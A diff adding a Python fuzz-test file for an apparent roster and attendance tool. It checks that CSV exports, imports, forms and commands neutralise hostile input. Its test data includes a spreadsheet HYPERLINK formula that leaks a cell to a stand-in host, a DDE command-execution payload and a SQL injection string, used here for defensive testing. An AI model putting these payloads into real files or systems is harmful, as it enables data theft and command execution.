@@ -1,0 +1,268 @@
+"""Hostile input gets a sentence: every import, form and command, with text no one meant.
+
+Each case ends in a saved value that reads back as typed, or in one sentence (a
+``UserFacingError``, or exit code 1–3 on the command line), never a traceback or "failed
+unexpectedly".
+"""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import os
+import string
+from datetime import date
+from pathlib import Path
+
+import pytest
+from demo_world import Demo
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from facilitator.cli import main
+from facilitator.core import limits
+from facilitator.core.changes import UserFacingError
+from facilitator.core.csv_safe import safe_cell, to_text
+from facilitator.core.loader import CurriculumError, check_curriculum, load_curriculum_file
+from facilitator.core.reports import AttendanceReport, SignInSheet, attendance_csv, sign_in_csv
+from facilitator.core.roster import GroupDraft, ParticipantDraft, RosterFileError, parse_roster, read_csv
+
+HOSTILE_TEXT = st.one_of(
+    st.text(max_size=300),
+    st.sampled_from([
+        '=HYPERLINK("http://evil.example/?"&E3,"Quinn")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+        "\t=1+1", "\r=1+1", "\uff1d1+1", "\x00", "a\x00b", "x" * 100_000, "'; DROP TABLE participant; --",
+        "<font name=x>", "\u202eevil", "🙂" * 300, "0001-01-01", "9999-12-31", " ", "",
+    ]),
+)
+FAST = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
+                                                                        HealthCheck.too_slow])
+
+# -- CSV exports --------------------------------------------------------------------------------
+
+
+@given(HOSTILE_TEXT)
+def test_no_csv_cell_starts_a_formula(name: str) -> None:
+    import csv
+
+    sheet = SignInSheet("Clinic", name, date(2026, 3, 2), "18:00–21:00", name, (name, "Ann"))
+    for text in (sign_in_csv(sheet), to_text(["h"], [[name, 5, -3]])):
+        for row in csv.reader(io.StringIO(text, newline="")):
+            for cell in row:
+                assert cell[:1] not in "=+@\t\r\uff1d\uff0b\uff20" or cell == "", cell
+                assert not cell.startswith("-") or cell == "-3", cell
+
+
+def test_the_known_formula_attacks_become_text() -> None:
+    for attack in ('=HYPERLINK("http://x"&E3,"Quinn")', "+1", "-1+1", "@A1", "\t=1", "\r=1", "\uff1d1", "\uff20A1"):
+        assert safe_cell(attack) == "'" + attack
+    assert safe_cell(-3) == -3 and safe_cell("Quinn") == "Quinn"
+    report = AttendanceReport("C", "=HYPERLINK(1)", "@R1", date(2026, 1, 1), date(2026, 1, 2), (), (), 9.0,
+                              __import__("datetime").datetime(2026, 1, 2), "UTC")
+    assert "'=HYPERLINK(1)" in attendance_csv(report) or "=HYPERLINK" not in attendance_csv(report)
+
+
+def test_every_csv_export_uses_the_one_writer() -> None:
+    root = Path(__file__).resolve().parents[2] / "facilitator"
+    writers = [p.relative_to(root).as_posix() for p in root.rglob("*.py") if "csv.writer(" in p.read_text("utf-8")]
+    assert writers == ["core/csv_safe.py"]
+
+
+# -- roster import ------------------------------------------------------------------------------
+
+
+@given(st.text(max_size=2000))
+def test_any_roster_text_is_read_or_refused_with_a_sentence(text: str) -> None:
+    try:
+        plan = parse_roster(read_csv(text))
+    except RosterFileError as exc:
+        assert str(exc)
+        return
+    for _line, draft in plan.drafts:
+        assert not draft.problems()
+        assert limits.EARLIEST_DATE <= draft.program_start <= limits.LATEST_DATE
+
+
+@given(st.lists(st.tuples(HOSTILE_TEXT, HOSTILE_TEXT, HOSTILE_TEXT, HOSTILE_TEXT), min_size=1, max_size=3))
+def test_hostile_roster_rows_are_named_by_line(rows: list[tuple[str, str, str, str]]) -> None:
+    out = io.StringIO()
+    import csv
+
+    w = csv.writer(out)
+    w.writerow(["record_number", "preferred_name", "legal_name", "date_of_birth", "program_start"])
+    for record, preferred, legal, born in rows:
+        w.writerow([record, preferred, legal, born, "2026-03-02"])
+    try:
+        plan = parse_roster(read_csv(out.getvalue()))
+    except RosterFileError:
+        return
+    for error in plan.errors:
+        assert error.line >= 1 and error.message and len(error.message) < 2000
+
+
+def test_a_birth_date_in_the_year_one_and_a_start_in_9999_are_refused() -> None:
+    text = "record_number,preferred_name,legal_name,date_of_birth,program_start\nR1,Ann,Ann L,0001-01-01,2026-03-02\n" \
+           "R2,Bo,Bo L,1990-01-01,9999-12-31\n"
+    plan = parse_roster(read_csv(text))
+    assert [e.line for e in plan.errors] == [2, 3]
+    assert "between 1900 and 2100" in plan.errors[0].message and "between 1900 and 2100" in plan.errors[1].message
+
+
+# -- forms: participant and group drafts, through the service into the database ----------------
+
+
+@FAST
+@given(record=HOSTILE_TEXT, preferred=HOSTILE_TEXT, legal=HOSTILE_TEXT, language=HOSTILE_TEXT,
+       born=st.one_of(st.none(), st.dates()), start=st.dates())
+def test_a_participant_form_saves_or_says_why(engine, shipped_library, record, preferred, legal, language, born,  # type: ignore[no-untyped-def]
+                                              start) -> None:
+    from roster_world import services
+
+    roster, _attendance, _settings, _work = services(engine, shipped_library, zone="")
+    draft = ParticipantDraft(record, preferred, legal, start, born, language=language)
+    try:
+        saved = roster.create_participant(draft)
+    except UserFacingError as exc:
+        assert str(exc).endswith(".") and "\x00" not in str(exc)
+        return
+    assert (saved.record_number, saved.preferred_name, saved.legal_name) == (
+        record.strip(), preferred.strip(), legal.strip())
+
+
+@FAST
+@given(name=HOSTILE_TEXT, room=HOSTILE_TEXT, start=st.dates())
+def test_a_group_form_saves_or_says_why(engine, shipped_library, name, room, start) -> None:  # type: ignore[no-untyped-def]
+    from roster_world import services
+
+    from facilitator.core.attendance import Track, WeeklySchedule
+    from facilitator.core.curriculum import GroupType
+
+    roster, _attendance, _settings, _work = services(engine, shipped_library, zone="")
+    schedule = WeeklySchedule((0,), __import__("datetime").time(18, 0), 90)
+    draft = GroupDraft(name, list(GroupType)[0], Track((), True), schedule, start, room=room)
+    try:
+        saved = roster.create_group(draft)
+    except UserFacingError as exc:
+        assert str(exc)
+        return
+    assert saved.name == name.strip() or saved.name == name
+
+
+# -- curriculum files ---------------------------------------------------------------------------
+
+
+def test_an_oversized_curriculum_file_is_refused_by_name_before_it_is_read(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    big = tmp_path / "huge.yaml"
+    with open(big, "wb") as fh:
+        fh.truncate(limits.CURRICULUM_FILE_MAX_BYTES + 1)  # sparse: no disk used
+
+    def never(*_args: object, **_kwargs: object) -> None:
+        raise AssertionError("the oversized file was parsed")
+
+    monkeypatch.setattr("facilitator.core.loader._Checker.decode", never)
+    with pytest.raises(CurriculumError) as refused:
+        load_curriculum_file(big)
+    message = str(refused.value)
+    assert "huge.yaml" in message and "5 MB" in message
+
+
+@FAST
+@given(st.one_of(st.text(max_size=500), st.binary(max_size=500),
+                 st.text(alphabet=string.printable, max_size=500).map(lambda t: "id: x\n" + t)))
+def test_any_curriculum_text_is_loaded_or_listed_as_problems(data: str | bytes) -> None:
+    curriculum, problems = check_curriculum(data, "fuzz.yaml")
+    assert curriculum is not None or problems
+
+
+# -- commands -----------------------------------------------------------------------------------
+
+COMMANDS = [
+    ["report", "attendance"],
+    ["notes", "export"],
+    ["roster", "list"],
+    ["roster", "import"],
+    ["audit", "export"],
+    ["audit", "verify"],
+    ["users", "list"],
+    ["users", "create"],
+]
+ARG = st.one_of(
+    HOSTILE_TEXT.filter(lambda t: len(t) < 5000),
+    st.sampled_from(["--participant", "--from", "--to", "--yes", "-o", "--format", "--meeting", "--name", "--role",
+                     "--by", "--action", "--participant-id", "0001-01-01", "9999-12-31", "2026-03-01", "1899-12-31",
+                     "-1", "x.pdf", "\x00", str(10**30), "99999999999"]),
+)
+
+
+@pytest.mark.parametrize("command", COMMANDS, ids=[" ".join(c) for c in COMMANDS])
+def test_fuzzed_command_lines_end_in_a_sentence(demo: Demo, tmp_path_factory: pytest.TempPathFactory,
+                                                command: list[str]) -> None:
+    folder = tmp_path_factory.mktemp("fuzz")
+    os.environ["FACILITATOR_USER"], os.environ["FACILITATOR_PASSWORD"] = "admin", "demo"
+    try:
+        _fuzz(demo, folder, command)
+    finally:
+        del os.environ["FACILITATOR_USER"], os.environ["FACILITATOR_PASSWORD"]
+
+
+def _fuzz(demo: Demo, folder: Path, command: list[str]) -> None:
+    @settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
+    @given(st.lists(ARG, max_size=7))
+    def run(extra: list[str]) -> None:
+        cwd = os.getcwd()
+        os.chdir(folder)  # any file a command writes lands here
+        err = io.StringIO()
+        try:
+            with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
+                try:
+                    code = main(demo.argv(*command, *extra))
+                except SystemExit as exc:  # argparse: a usage sentence, exit 2
+                    code = exc.code if isinstance(exc.code, int) else 2
+        finally:
+            os.chdir(cwd)
+        said = err.getvalue()
+        assert code in (0, 1, 2, 3), (code, said)
+        assert "unexpectedly" not in said and "Traceback" not in said, said
+        if code:
+            assert said.strip(), "a failure says why"
+
+    run()
+
+
+@pytest.mark.parametrize("content", [b"", b"not a database", b"SQLite format 3\x00" + b"\xff" * 5000],
+                         ids=["empty", "text", "damaged"])
+def test_a_restore_from_a_file_that_is_no_backup_is_a_sentence(
+    demo: Demo, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, content: bytes
+) -> None:
+    monkeypatch.setenv("FACILITATOR_USER", "admin")
+    monkeypatch.setenv("FACILITATOR_PASSWORD", "demo")
+    bad = tmp_path / "backup.sqlite"
+    bad.write_bytes(content)
+    code = main(demo.argv("restore", str(bad)))
+    said = capsys.readouterr().err
+    assert code in (1, 2, 3) and said.strip() and "unexpectedly" not in said, said
+
+
+@pytest.mark.parametrize("command", [["report", "attendance"], ["audit", "export"]])
+def test_a_full_disk_on_the_command_line_is_a_sentence(
+    demo: Demo, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
+    command: list[str],
+) -> None:
+    import errno
+
+    def no_space(*_args: object, **_kwargs: object) -> None:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    # Every protected file goes through the one helper; a full disk fails its first write.
+    monkeypatch.setattr("facilitator.core.files.write_private", no_space)
+    monkeypatch.setattr("facilitator.store.db.private_file", no_space)
+    monkeypatch.setenv("FACILITATOR_USER", "admin")
+    monkeypatch.setenv("FACILITATOR_PASSWORD", "demo")
+    out = tmp_path / "out.csv"
+    extra = ["--participant", demo.mine, "--from", "2026-01-01", "--to", "2026-02-01"] if command[0] == "report" else []
+    code = main(demo.argv(*command, *extra, "-o", str(out)))
+    said = capsys.readouterr().err
+    assert code == 3 and "the disk is full" in said and "unexpectedly" not in said, said
+    assert not out.exists() and not list(tmp_path.glob(".*part"))
